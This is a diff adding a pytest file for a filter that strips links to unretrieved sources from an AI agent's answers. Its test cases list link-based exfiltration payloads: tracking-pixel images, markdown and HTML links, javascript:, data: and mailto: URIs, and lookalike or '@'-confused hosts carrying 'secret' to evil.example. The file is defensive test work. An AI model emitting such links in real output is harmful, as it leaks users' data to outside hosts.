@@ -1,0 +1,61 @@
+"""No link but to a retrieved source."""
+
+import pytest
+
+from core.agent.links import REMOVED, without_foreign_links
+
+OURS = frozenset({"https://docs.example.com/refunds", "https://wiki.example.com/a_(b)"})
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://evil.example/?q=secret now",
+        "See HTTP://evil.example/secret",
+        "![pixel](https://evil.example/p.png?d=secret)",
+        "[click](https://evil.example/secret)",
+        '[click](https://evil.example/secret "title")',
+        "[click](<https://evil.example/secret>)",
+        "[click][1]\n\n[1]: https://evil.example/secret",
+        "<https://evil.example/secret>",
+        '<img src="https://evil.example/secret">',
+        '<a href="https://evil.example/secret">here</a>',
+        "//evil.example/secret",
+        "www.evil.example/secret",
+        "evil.example/p?d=secret",
+        "javascript:alert(secret)",
+        "data:text/html,secret",
+        "mailto:evil@evil.example?body=secret",
+        "`https://evil.example/secret`",
+        "https://docs.example.com/refunds?leak=secret",
+        "https://docs.example.com.evil.example/secret",
+        "https://docs.example.com/refunds@evil.example/secret",
+        "[https://docs.example.com/refunds](https://evil.example/secret)",
+        "slack://secret",
+    ],
+)
+def test_a_foreign_link_is_gone(text: str) -> None:
+    assert "secret" not in without_foreign_links(text, OURS)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://docs.example.com/refunds.",
+        "See [the policy](https://docs.example.com/refunds), section 2.",
+        "[odd](https://wiki.example.com/a_(b))",
+        "Version 2.1 of node.js costs 3.50 and and/or e.g. this.",
+        "Write to /etc/hosts, or call foo.bar().",
+        "The ratio is 3:1 and the time 10:30.",
+    ],
+)
+def test_what_is_no_foreign_link_stays_as_it_is(text: str) -> None:
+    assert without_foreign_links(text, OURS) == text
+
+
+def test_a_removed_markdown_link_keeps_its_words() -> None:
+    assert without_foreign_links("[the refund page](https://evil.example/x)", OURS) == "the refund page"
+
+
+def test_a_bare_link_leaves_a_word_in_its_place() -> None:
+    assert without_foreign_links("go to https://evil.example/x please", OURS) == f"go to {REMOVED} please"
